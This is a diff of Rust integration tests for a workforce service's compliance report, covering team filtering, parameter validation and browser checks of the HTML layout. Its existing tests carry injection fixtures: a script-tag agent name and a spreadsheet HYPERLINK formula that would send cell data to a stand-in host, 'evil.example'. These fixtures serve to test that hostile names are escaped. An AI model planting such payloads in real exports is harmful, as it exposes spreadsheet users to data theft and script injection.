@@ -34,16 +34,35 @@ pub fn attachment(stem: &str, from: &str, to: &str, extension: &str) -> String {
     )
 }
 
+/// Changes each of `agents` (free ones) to PAUSED, or IDLE if already paused.
+async fn change_each(app: &TestApp, agents: &[SimAgent]) {
+    for agent in agents {
+        let target = if agent.state == "PAUSED" {
+            "IDLE"
+        } else {
+            "PAUSED"
+        };
+        let (status, body) = app.set_state(&agent.id, target).await;
+        assert_eq!(status, 200, "{body}");
+    }
+}
+
+/// The address of the HTML report of the hour before now to the hour after.
+fn html_of_the_last_hour(app: &TestApp) -> String {
+    let from = instant(Utc::now() - Duration::hours(1));
+    let to = instant(Utc::now() + Duration::hours(1));
+    format!(
+        "{}/v1/reports/compliance?from={}&to={}&format=html",
+        app.address,
+        from.replace('+', "%2B"),
+        to.replace('+', "%2B")
+    )
+}
+
 /// One accepted change and one rejected (off shift) change; returns their agents.
 async fn two_transitions(app: &TestApp) -> (String, String) {
     let free = app.sim.free_agents().remove(0);
-    let target = if free.state == "PAUSED" {
-        "IDLE"
-    } else {
-        "PAUSED"
-    };
-    let (status, body) = app.set_state(&free.id, target).await;
-    assert_eq!(status, 200, "{body}");
+    change_each(app, std::slice::from_ref(&free)).await;
     let off = app.sim.off_shift_agent();
     let (status, body) = app.set_state(&off.id, "READY").await;
     assert_eq!(status, 409, "{body}");
@@ -143,8 +162,9 @@ async fn the_report_counts_real_transitions_in_all_three_formats(dialect: Dialec
 #[tokio::test]
 async fn bad_parameters_are_400_problems_naming_the_parameter() {
     let app = TestApp::spawn().await;
-    let cases: [(&[(&str, &str)], &str); 5] = [
+    let cases: [(&[(&str, &str)], &str); 6] = [
         (&[("from", "yesterday")], "from"),
+        (&[("team", "  ")], "team"),
         (&[("from", "2026-11-20"), ("to", "2026-11-19")], "to"),
         (&[("from", "2025-01-01"), ("to", "2026-11-19")], "to"),
         (&[("format", "xml")], "format"),
@@ -254,7 +274,7 @@ const SCRIPT_NAME: &str = "<script>alert('name')</script>";
 /// wfmd with the wallboard's roster refresh on (`live.enabled`, which the harness turns
 /// off; it lists the agents at start), after `rename` renamed agents on the platform;
 /// returns once every agent's name is stored.
-async fn spawn_named(dialect: Dialect, rename: impl FnOnce(&TestSim)) -> TestApp {
+pub(crate) async fn spawn_named(dialect: Dialect, rename: impl FnOnce(&TestSim)) -> TestApp {
     let sim = TestSim::default_tenant().await.on(dialect);
     rename(&sim);
     let app = TestApp::spawn_with(sim, |config| config.live.enabled = true).await;
@@ -382,6 +402,73 @@ async fn a_formula_name_is_text_in_the_csv_and_a_script_name_is_escaped_in_the_h
     assert!(html.contains("=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1"));
 }
 
+/// The CSV's rows without their header, by agent id.
+fn csv_rows(text: &str) -> HashMap<String, Vec<String>> {
+    csv::Reader::from_reader(text.as_bytes())
+        .records()
+        .map(|r| {
+            let row: Vec<String> = r.unwrap().iter().map(Into::into).collect();
+            (row[0].clone(), row)
+        })
+        .collect()
+}
+
+#[tokio::test]
+async fn a_teams_report_holds_its_agents_only_with_the_full_reports_figures() {
+    let app = spawn_named(Dialect::V2, |_| {}).await;
+    let moved: Vec<SimAgent> = app.sim.free_agents().into_iter().take(12).collect();
+    change_each(&app, &moved).await;
+    let team = moved[0].team_id.clone();
+    assert!(
+        moved.iter().any(|a| a.team_id != team),
+        "the changes reach more than one team"
+    );
+    let members: Vec<String> = app
+        .sim
+        .sim
+        .agents()
+        .into_iter()
+        .filter(|a| a.team_id == team)
+        .map(|a| a.id)
+        .collect();
+    // A window that has ended, so open intervals end with it and figures hold still.
+    let from = instant(Utc::now() - Duration::hours(1));
+    let to = instant(Utc::now());
+    let window = [("from", from.as_str()), ("to", to.as_str())];
+    let full_text = fetch(&app, &window).await.text().await.unwrap();
+    let full = csv_rows(&full_text);
+    let shouted = moved[0].team_name.to_uppercase();
+    for asked in [team.as_str(), shouted.as_str()] {
+        let mut params = window.to_vec();
+        params.push(("team", asked));
+        let text = fetch(&app, &params).await.text().await.unwrap();
+        let ours = csv_rows(&text);
+        assert!(ours.contains_key(&moved[0].id), "{asked}: {text}");
+        for (id, row) in &ours {
+            assert!(members.contains(id), "{id} is not of team {asked}");
+            assert_eq!(row, &full[id], "the same figures as in the full report");
+        }
+        let expected = full.keys().filter(|id| members.contains(id)).count();
+        assert_eq!(ours.len(), expected, "every member the full report has");
+        assert!(ours.len() < full.len(), "{full_text}");
+
+        params.push(("format", "json"));
+        let json: Value = fetch(&app, &params).await.json().await.unwrap();
+        assert_eq!(json["agents"].as_array().unwrap().len(), ours.len());
+        let attempts = json["attempts"].as_array().unwrap();
+        assert!(!attempts.is_empty());
+        for attempt in attempts {
+            let id = attempt["agent_id"].as_str().unwrap();
+            assert!(members.iter().any(|m| m == id), "{attempt}");
+        }
+    }
+
+    let mut params = window.to_vec();
+    params.push(("team", "no such team"));
+    let nobody = fetch(&app, &params).await.text().await.unwrap();
+    assert_eq!(nobody.lines().count(), 1, "the header only: {nobody}");
+}
+
 /// Seeds what adherence is computed from, over the two hours from `t0`: `(agent, state
 /// at t0, state at t0 + 1 h or none, with a shift)`. A shift spans the window without
 /// breaks, so READY is in adherence and NOT_READY is not.
@@ -425,17 +512,20 @@ async fn seed_adherence(
     tx.commit().await.unwrap();
 }
 
-/// The first per-agent table of the page, in order: `team <heading>` for a team's
-/// heading row (its text up to the id), the agent id for an agent's row.
+/// The page's team sections in order: `team <heading>` for a section's heading (its
+/// text up to the id), then the agent ids of its first table's rows.
 fn page_order(html: &str) -> Vec<String> {
-    let table = html.split("<table class=\"agents\">").nth(1).unwrap();
-    let table = &table[..table.find("</table>").unwrap()];
     let mut order = Vec::new();
-    for row in table.split("<tr class=\"").skip(1) {
-        if let Some(rest) = row.strip_prefix("team\"><th colspan=\"15\">") {
-            order.push(format!("team {}", &rest[..rest.find(" <span").unwrap()]));
-        } else if let Some(rest) = row.strip_prefix("agent\" data-agent=\"") {
-            order.push(rest[..rest.find('"').unwrap()].to_owned());
+    for section in html.split("<section class=\"team\" id=\"team-").skip(1) {
+        let heading = &section[section.find("<h3>").unwrap() + 4..];
+        order.push(format!(
+            "team {}",
+            &heading[..heading.find(" <span").unwrap()]
+        ));
+        let table = section.split("<table class=\"agents\">").nth(1).unwrap();
+        let table = &table[..table.find("</table>").unwrap()];
+        for row in table.split("<tr class=\"agent\" data-agent=\"").skip(1) {
+            order.push(row[..row.find('"').unwrap()].to_owned());
         }
     }
     order
@@ -519,23 +609,8 @@ async fn the_html_report_fits_a_1366_px_screen_without_sideways_scrolling() {
         assert!(sim.sim.rename_agent(&moved[0].id, long));
     })
     .await;
-    for agent in &moved {
-        let target = if agent.state == "PAUSED" {
-            "IDLE"
-        } else {
-            "PAUSED"
-        };
-        let (status, body) = app.set_state(&agent.id, target).await;
-        assert_eq!(status, 200, "{body}");
-    }
-    let from = instant(Utc::now() - Duration::hours(1));
-    let to = instant(Utc::now() + Duration::hours(1));
-    let url = format!(
-        "{}/v1/reports/compliance?from={}&to={}&format=html&tz=Europe/Berlin",
-        app.address,
-        from.replace('+', "%2B"),
-        to.replace('+', "%2B")
-    );
+    change_each(&app, &moved).await;
+    let url = format!("{}&tz=Europe/Berlin", html_of_the_last_hour(&app));
 
     let driver = Chromedriver::start().await;
     let browser = driver.browser().await;
@@ -559,6 +634,97 @@ async fn the_html_report_fits_a_1366_px_screen_without_sideways_scrolling() {
         scroll <= inner,
         "the page is {scroll} px wide in a {inner} px window"
     );
+    browser.close().await.unwrap();
+}
+
+#[tokio::test]
+async fn at_1366_px_the_html_reports_headers_stay_in_view_break_no_word_and_the_definitions_are_linked_on_the_first_screen()
+ {
+    let app = spawn_named(Dialect::V2, |_| {}).await;
+    let moved: Vec<SimAgent> = app.sim.free_agents().into_iter().take(30).collect();
+    change_each(&app, &moved).await;
+    let url = html_of_the_last_hour(&app);
+
+    let driver = Chromedriver::start().await;
+    let browser = driver.browser().await;
+    browser.set_window_size(1366, 768).await.unwrap();
+    browser.goto(&url).await.unwrap();
+    let first_screen = browser
+        .execute(
+            "const a = document.querySelector('a[href=\"#definitions\"]');
+             const r = a.getBoundingClientRect();
+             return [r.top >= 0 && r.bottom <= window.innerHeight,
+                     !!document.getElementById('definitions'),
+                     document.querySelectorAll('nav.top a[href^=\"#team-\"]').length,
+                     document.querySelectorAll('section.team').length];",
+            vec![],
+        )
+        .await
+        .unwrap();
+    assert_eq!(
+        first_screen[0], true,
+        "the definitions link is on the first screen"
+    );
+    assert_eq!(first_screen[1], true, "and leads somewhere");
+    assert!(first_screen[2].as_u64().unwrap() >= 2, "{first_screen}");
+    assert_eq!(first_screen[2], first_screen[3], "a link per team section");
+
+    // Every header word on one line: breaks only between words, nothing cut off.
+    let broken = browser
+        .execute(
+            "const broken = [];
+             for (const th of document.querySelectorAll('table.agents th')) {
+               if (th.scrollWidth > th.clientWidth) broken.push('overflows: ' + th.textContent);
+               for (const node of th.childNodes) {
+                 if (node.nodeType !== Node.TEXT_NODE) continue;
+                 for (const m of node.textContent.matchAll(/\\S+/g)) {
+                   const range = document.createRange();
+                   range.setStart(node, m.index);
+                   range.setEnd(node, m.index + m[0].length);
+                   if (range.getClientRects().length > 1) broken.push(m[0] + ' in ' + th.textContent);
+                 }
+               }
+             }
+             return [broken, document.querySelectorAll('table.agents th').length,
+                     window.innerWidth, document.documentElement.scrollWidth];",
+            vec![],
+        )
+        .await
+        .unwrap();
+    assert!(broken[1].as_u64().unwrap() > 20, "{broken}");
+    assert_eq!(
+        broken[0],
+        serde_json::json!([]),
+        "header words broken: {broken}"
+    );
+    assert!(
+        broken[3].as_u64().unwrap() <= broken[2].as_u64().unwrap(),
+        "no sideways scrolling: {broken}"
+    );
+
+    // Scrolled into the longest table, its header row is still at the top.
+    let sticky = browser
+        .execute(
+            "const tables = [...document.querySelectorAll('table.agents')];
+             const t = tables.reduce((a, b) => b.offsetHeight > a.offsetHeight ? b : a);
+             const head = t.tHead.getBoundingClientRect().height;
+             window.scrollTo(0, t.getBoundingClientRect().top + window.scrollY + head + 20);
+             const r = t.tHead.rows[0].cells[1].getBoundingClientRect();
+             return [r.top, t.offsetHeight, head, window.scrollY];",
+            vec![],
+        )
+        .await
+        .unwrap();
+    let top = sticky[0].as_f64().unwrap();
+    assert!(
+        sticky[1].as_f64().unwrap() > sticky[2].as_f64().unwrap() + 40.0,
+        "{sticky}"
+    );
+    assert!(
+        sticky[3].as_f64().unwrap() > 0.0,
+        "the page scrolled: {sticky}"
+    );
+    assert!(top.abs() < 2.0, "the header row stays at the top: {sticky}");
     browser.close().await.unwrap();
 }
 
